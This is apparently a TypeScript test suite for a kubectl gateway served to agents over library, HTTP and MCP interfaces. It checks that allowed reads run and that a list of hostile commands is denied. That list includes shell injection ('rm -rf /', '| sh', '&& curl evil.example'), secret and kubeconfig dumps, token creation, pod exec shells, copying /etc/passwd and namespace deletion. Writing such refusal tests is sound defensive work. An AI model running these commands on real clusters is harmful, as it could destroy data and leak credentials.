/**
 * Command requests ({"command": "kubectl …"} / {"argv": [...]}) through the whole pipeline on every face, with an
 * executor that records what it is handed: allowed commands run exactly as validated (with the gate's --context),
 * hostile ones are refused on the library, HTTP and MCP faces with nothing spawned; k8s_read refuses writes;
 * server modes and the kube.contexts allow-list hold.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import type { FastifyInstance } from "fastify";
import { createRagK8s } from "../../src/app/runtime.js";
import type { RagK8s } from "../../src/app/runtime.js";
import type { OpenTarget } from "../../src/app/target.js";
import { loadConfig } from "../../src/config/index.js";
import type { DeepPartial, Config } from "../../src/config/index.js";
import { RequestValidationError } from "../../src/core/errors.js";
import type { ExecResponse } from "../../src/core/response.js";
import type { ExecResult, Executor } from "../../src/executor/index.js";
import { createMetrics } from "../../src/interfaces/http/metrics.js";
import { createHttpServer } from "../../src/interfaces/http/server.js";
import { registerTools } from "../../src/interfaces/mcp/tools.js";
import { MemoryAudit, succeeded } from "./fakes.js";

class RecordingExecutor implements Executor {
  readonly calls: string[][] = [];
  readonly inFlight = 0;
  get spawnCount() {
    return this.calls.length;
  }
  async run(argv: readonly string[]): Promise<ExecResult> {
    this.calls.push([...argv]);
    return succeeded("ok\n");
  }
  async drain() {}
  available(name: string) {
    return name === "kubectl";
  }
}

const SERVER = "https://prod-eu.invalid:6443";
const target: OpenTarget = {
  target: { kind: "cluster", kubeconfig: "/dev/null", context: "prod-eu", server: SERVER, describe: `context prod-eu @ ${SERVER} (test)`, record: { kind: "cluster", context: "prod-eu", server: SERVER } },
  env: {},
  targetArgs: ["--context", "prod-eu"],
  reachable: true,
  sandbox: null,
  contexts: new Map([["staging-us", { targetArgs: ["--context", "staging-us"], record: { kind: "cluster", context: "staging-us", server: "https://staging-us.invalid" } }]]),
  close: async () => {},
};

/** Every allowed read shape: core kinds, CRDs, flux kinds, -A, every safe output, selectors, sorting, labels. */
export const ALLOWED_READS: readonly string[] = [
  "kubectl get pods -n staging",
  "kubectl get pods -A",
  "kubectl get deployments -n prod -o wide",
  "kubectl get deployment web -n prod -o yaml",
  "kubectl get deployment web -n prod -o json",
  "kubectl get pods -n staging -o name",
  "kubectl get pods -n staging -o jsonpath={.items[*].metadata.name}",
  "kubectl get pods -n staging -l app=web",
  "kubectl get pods -n staging --sort-by=.metadata.creationTimestamp",
  "kubectl get pods -n staging --show-labels",
  "kubectl get ingress -n prod -o yaml",
  "kubectl get pvc -n staging",
  "kubectl get nodes",
  "kubectl get namespaces",
  "kubectl get configmaps -n staging",
  "kubectl get secrets -n staging",
  "kubectl get certificates.cert-manager.io -n prod",
  "kubectl get kustomizations.kustomize.toolkit.fluxcd.io -A",
  "kubectl get helmreleases -n flux-system",
  "kubectl describe deployment web -n staging",
  "kubectl describe node worker-1",
  "kubectl logs web-0 -n staging --tail=50",
  "kubectl get events -n staging --sort-by=.lastTimestamp",
  "kubectl events -n staging",
  "kubectl top pod -n staging",
  "kubectl explain deployment.spec.strategy",
  "kubectl api-resources",
];

/** Commands no face may run: identity/target flags, secret outputs, shell syntax, unicode look-alikes, non-kubectl. */
export const HOSTILE: readonly string[] = [
  "kubectl get pods -n staging; rm -rf /",
  "kubectl get pods -n staging && curl evil.example",
  "kubectl get pods -n staging | sh",
  "kubectl get pods -n $(whoami)",
  "kubectl get pods -n staging `id`",
  "kubectl get pods -n staging > /etc/passwd",
  "kubectl get pods -n staging --context other",
  "kubectl get pods -n staging --kubeconfig /tmp/evil",
  "kubectl get pods -n staging --kubeconf=/tmp/evil",
  "kubectl get pods -n staging --as system:admin",
  "kubectl get pods -n staging --token abc",
  "kubectl get pods -n staging --server https://evil.example",
  "kubectl get secret db -n prod -o yaml",
  "kubectl get secret db -n prod -o jsonpath={.data}",
  "kubectl get secrets -n prod -o go-template={{.data}}",
  "kubectl get all -n prod -o yaml",
  "kubectl describe secret db -n prod",
  "kubectl create token default -n prod",
  "kubectl config view --raw",
  "kubectl get --raw /api/v1/namespaces/prod/secrets",
  "kubectl proxy",
  "kubectl exec web-0 -n prod -- sh",
  "kubectl cp web-0:/etc/passwd /tmp/x -n prod",
  "kubectl port-forward web-0 8080:80 -n prod",
  "kubectl delete namespace prod",
  "kubectl get pods -n staging \u2013o yaml",
  "kubectl get pods -n st\u0430ging",
  "sh -c 'kubectl get pods'",
  "bash",
];

async function openRuntime(overrides: DeepPartial<Config> = {}): Promise<{ runtime: RagK8s; executor: RecordingExecutor; audit: MemoryAudit; close(): Promise<void> }> {
  const dir = mkdtempSync(join(tmpdir(), "rag-k8s-command-"));
  const { config } = loadConfig({ cwd: dir, env: {}, overrides: { retrieval: { cacheDir: join(dir, "cache") }, ...overrides } });
  const executor = new RecordingExecutor();
  const audit = new MemoryAudit();
  const runtime = await createRagK8s({ config, executor, audit, target, onWarning: () => {} });
  return {
    runtime,
    executor,
    audit,
    async close() {
      await runtime.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** A response's status, or "input" when the face answered with an input error. */
async function statusOf(call: Promise<ExecResponse>): Promise<string> {
  try {
    return (await call).status;
  } catch (error) {
    if (error instanceof RequestValidationError) return "input";
    throw error;
  }
}

describe("command requests through the pipeline (library face)", () => {
  let h: Awaited<ReturnType<typeof openRuntime>>;
  before(async () => (h = await openRuntime()));
  after(() => h.close());

  for (const command of ALLOWED_READS) {
    test(`runs exactly what policy validated: ${command}`, async () => {
      for (const [label, request, face] of [
        ["command", { command }, "exec"],
        ["argv", { argv: command.split(" ") }, "exec"],
        ["k8s_read", { command }, "read"],
      ] as const) {
        h.executor.calls.length = 0;
        const response = await h.runtime[face](request);
        assert.equal(response.status, "succeeded", `${label}: ${response.message}`);
        assert.equal(response.plan?.planner, "command");
        const [binary, ...rest] = command.split(" ");
        assert.deepEqual(h.executor.calls, [[binary, "--context", "prod-eu", ...rest]], label);
        assert.deepEqual(response.target, { kind: "cluster", context: "prod-eu", server: SERVER });
        const line = h.audit.records.at(-1);
        assert.deepEqual(line?.target, response.target, "the audit line records the target");
        assert.equal((line?.request as { kind: string }).kind, "command", "the audit line records the request kind");
      }
    });
  }

  test("hostile commands are refused with the policy's reasons, and nothing is spawned", async () => {
    h.executor.calls.length = 0;
    for (const command of HOSTILE) {
      for (const face of ["exec", "plan", "read"] as const) {
        const response = await h.runtime[face]({ command, constraints: { confirm: true } });
        assert.equal(response.status, "denied", `${face}: ${command}`);
        assert.ok((response.validation?.reasons.length ?? 0) > 0, `a reason is given for ${command}`);
      }
      const words = command.split(" ");
      assert.equal(await statusOf(h.runtime.exec({ argv: words, constraints: { confirm: true } })), "denied", `argv: ${command}`);
    }
    assert.deepEqual(h.executor.calls, []);
  });

  test("k8s_read refuses a write before anything runs, even when it is confirmed; exec runs it", async () => {
    h.executor.calls.length = 0;
    const restart = { command: "kubectl rollout restart deployment/web -n staging", constraints: { confirm: true } };
    for (const request of [restart, { intent: "restart", resource: "deployment", namespace: "staging", name: "web" }, { goal: "restart deployment web in staging" }]) {
      const refused = await h.runtime.read(request);
      assert.equal(refused.status, "denied", JSON.stringify(request));
      assert.match(refused.message, /read-only/);
    }
    // Only the goal's read-only inventory listing may have run (planning reads names; it never changes anything).
    const inventoryRead = (argv: readonly string[]) => /^kubectl --context \S+ get namespaces,nodes,\S+ -A -o json$/.test(argv.join(" "));
    assert.deepEqual(h.executor.calls.filter((argv) => !inventoryRead(argv)), []);
    const ran = await h.runtime.exec(restart);
    assert.equal(ran.status, "succeeded", ran.message);
  });

  test("a request carries exactly one of goal, intent+resource, command, argv; command takes no card fields", async () => {
    const invalid: unknown[] = [
      { command: "kubectl get pods -A", goal: "list pods" },
      { command: "kubectl get pods -A", argv: ["kubectl", "get", "pods"] },
      { command: "kubectl get pods -A", intent: "status", resource: "pod" },
      { argv: ["kubectl", "get", "pods"], name: "web" },
      { command: "" },
      { argv: [] },
      { command: "kubectl get pods", context: "a b" },
    ];
    h.executor.calls.length = 0;
    for (const request of invalid) assert.equal(await statusOf(h.runtime.exec(request)), "input", JSON.stringify(request));
    assert.deepEqual(h.executor.calls, []);
  });

  test("the namespace is the request's, else the command's; one contradicting the other is denied", async () => {
    const planned = await h.runtime.plan({ command: "kubectl get pods -n staging" });
    assert.equal(planned.plan?.namespace, "staging");
    const contradicted = await h.runtime.plan({ command: "kubectl get pods -n prod", namespace: "staging" });
    assert.equal(contradicted.status, "denied");
  });

  test("a context of kube.contexts is targeted by the gate; any other is an input error naming the allowed ones", async () => {
    h.executor.calls.length = 0;
    const response = await h.runtime.exec({ command: "kubectl get pods -n staging", context: "staging-us" });
    assert.equal(response.status, "succeeded");
    assert.deepEqual(h.executor.calls, [["kubectl", "--context", "staging-us", "get", "pods", "-n", "staging"]]);
    assert.deepEqual(response.target, { kind: "cluster", context: "staging-us", server: "https://staging-us.invalid" });
    await assert.rejects(h.runtime.exec({ command: "kubectl get pods -n staging", context: "prod-us" }), (error: unknown) => error instanceof RequestValidationError && /allowed \(kube.contexts\): staging-us/.test(error.message));
    assert.equal(h.executor.calls.length, 1);
  });

  test("validate says how to run an allowed command", async () => {
    const { validateOperation } = await import("../../src/app/operations/index.js");
    const verdict = await validateOperation.run(h.runtime, { command: "kubectl get pods -A" }, {});
    assert.match(verdict.next ?? "", /rag-k8s run -- kubectl get pods -A/);
    const denied = await validateOperation.run(h.runtime, { command: "kubectl config view --raw" }, {});
    assert.equal(denied.next, undefined);
  });
});

describe("server modes", () => {
  test("--read-only: no write is runnable, on exec or plan; reads still run", async () => {
    const h = await openRuntime({ policy: { readOnly: true } });
    try {
      for (const command of ["kubectl rollout restart deployment/web -n staging", "kubectl scale deployment/web -n staging --replicas=3", "kubectl cordon worker-1"]) {
        for (const face of ["exec", "plan"] as const) assert.equal((await h.runtime[face]({ command, constraints: { confirm: true } })).status, "denied", `${face}: ${command}`);
      }
      assert.equal((await h.runtime.exec({ command: "kubectl get pods -n staging" })).status, "succeeded");
      assert.equal(h.executor.calls.length, 1);
    } finally {
      await h.close();
    }
  });

  test("--disable-destructive and deniedKinds", async () => {
    const h = await openRuntime({ policy: { disableDestructive: true, deniedKinds: ["configmaps"] } });
    try {
      const scaleToZero = await h.runtime.exec({ command: "kubectl scale deployment/web -n staging --replicas=0", constraints: { confirm: true } });
      assert.equal(scaleToZero.status, "denied");
      assert.equal((await h.runtime.exec({ command: "kubectl get configmaps -n staging" })).status, "denied");
      assert.equal((await h.runtime.exec({ command: "kubectl rollout restart deployment/web -n staging" })).status, "succeeded");
    } finally {
      await h.close();
    }
  });
});

describe("command requests on the HTTP and MCP faces", () => {
  let h: Awaited<ReturnType<typeof openRuntime>>;
  let app: FastifyInstance;
  let host = "";
  before(async () => {
    h = await openRuntime();
    app = createHttpServer(h.runtime, { host: "127.0.0.1", bodyLimitBytes: 65_536, concurrency: 8, requestTimeoutMs: 30_000, logLevel: "silent", health: () => ({}) }, createMetrics());
    // Listening gives the server its port, which the Host check (DNS-rebinding protection) compares with.
    const address = new URL(await app.listen({ host: "127.0.0.1", port: 0 }));
    host = address.host;
  });
  after(async () => {
    await app.close();
    await h.close();
  });

  async function mcpClient(runtime: RagK8s): Promise<Client> {
    const server = new McpServer({ name: "rag-k8s", version: "0.0.0" });
    registerTools(server, runtime);
    const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
    await server.connect(serverSide);
    const client = new Client({ name: "test", version: "0.0.0" });
    await client.connect(clientSide);
    return client;
  }

  test("HTTP: /k8s-exec, /k8s-read and /plan accept a command; hostile ones are denied and nothing spawns", async () => {
    h.executor.calls.length = 0;
    for (const url of ["/k8s-exec", "/k8s-read", "/plan"]) {
      for (const command of HOSTILE) {
        const reply = await app.inject({ method: "POST", headers: { host }, url, payload: { command, constraints: { confirm: true } } });
        assert.equal(reply.json<ExecResponse>().status, "denied", `${url}: ${command}`);
      }
    }
    assert.deepEqual(h.executor.calls, []);
    const ok = await app.inject({ method: "POST", headers: { host }, url: "/k8s-exec", payload: { command: "kubectl get pods -A" } });
    assert.equal(ok.json<ExecResponse>().status, "succeeded");
    assert.deepEqual(ok.json<ExecResponse>().target, { kind: "cluster", context: "prod-eu", server: SERVER });
    const outside = await app.inject({ method: "POST", headers: { host }, url: "/k8s-exec", payload: { command: "kubectl get pods -A", context: "kind-evil" } });
    assert.equal(outside.statusCode, 400);
  });

  test("MCP: k8s_read is read-only-annotated with an output schema, runs reads and refuses writes; hostile commands spawn nothing", async () => {
    const client = await mcpClient(h.runtime);
    try {
      const { tools } = await client.listTools();
      const read = tools.find((t) => t.name === "k8s_read");
      const exec = tools.find((t) => t.name === "k8s_exec");
      assert.deepEqual([read?.annotations?.readOnlyHint, read?.annotations?.destructiveHint, read?.annotations?.idempotentHint], [true, false, true]);
      assert.equal(exec?.annotations?.destructiveHint, true);
      for (const tool of tools) assert.ok(tool.outputSchema, `${tool.name} declares its output schema`);
      assert.match(read?.description ?? "", /Example: \{"command"/);
      h.executor.calls.length = 0;
      for (const command of HOSTILE) {
        for (const name of ["k8s_read", "k8s_exec"]) {
          const result = (await client.callTool({ name, arguments: { command, constraints: { confirm: true } } })) as CallToolResult;
          assert.equal((result.structuredContent as { status: string }).status, "denied", `${name}: ${command}`);
        }
      }
      const write = (await client.callTool({ name: "k8s_read", arguments: { command: "kubectl rollout restart deployment/web -n staging", constraints: { confirm: true } } })) as CallToolResult;
      assert.equal((write.structuredContent as { status: string }).status, "denied");
      assert.deepEqual(h.executor.calls, []);
      const listed = (await client.callTool({ name: "k8s_read", arguments: { command: "kubectl get ingress -n prod -o yaml" } })) as CallToolResult;
      assert.equal((listed.structuredContent as { status: string }).status, "succeeded");
      const outside = (await client.callTool({ name: "k8s_read", arguments: { command: "kubectl get pods -A", context: "kind-evil" } })) as CallToolResult;
      assert.equal(outside.isError, true);
      assert.match(JSON.stringify(outside.content), /allowed \(kube.contexts\): staging-us/);
      assert.equal(h.executor.calls.length, 1);
    } finally {
      await client.close();
    }
  });

  test("MCP: read-only mode does not offer k8s_exec; mcp.tools limits the tools", async () => {
    for (const [overrides, expected] of [
      [{ policy: { readOnly: true } }, ["k8s_health", "k8s_plan", "k8s_read", "k8s_search", "k8s_validate"]],
      [{ mcp: { tools: ["k8s_read", "k8s_validate"] } }, ["k8s_read", "k8s_validate"]],
    ] as const) {
      const moded = await openRuntime(overrides as DeepPartial<Config>);
      const client = await mcpClient(moded.runtime);
      try {
        assert.deepEqual((await client.listTools()).tools.map((t) => t.name).sort(), expected);
      } finally {
        await client.close();
        await moded.close();
      }
    }
  });
});
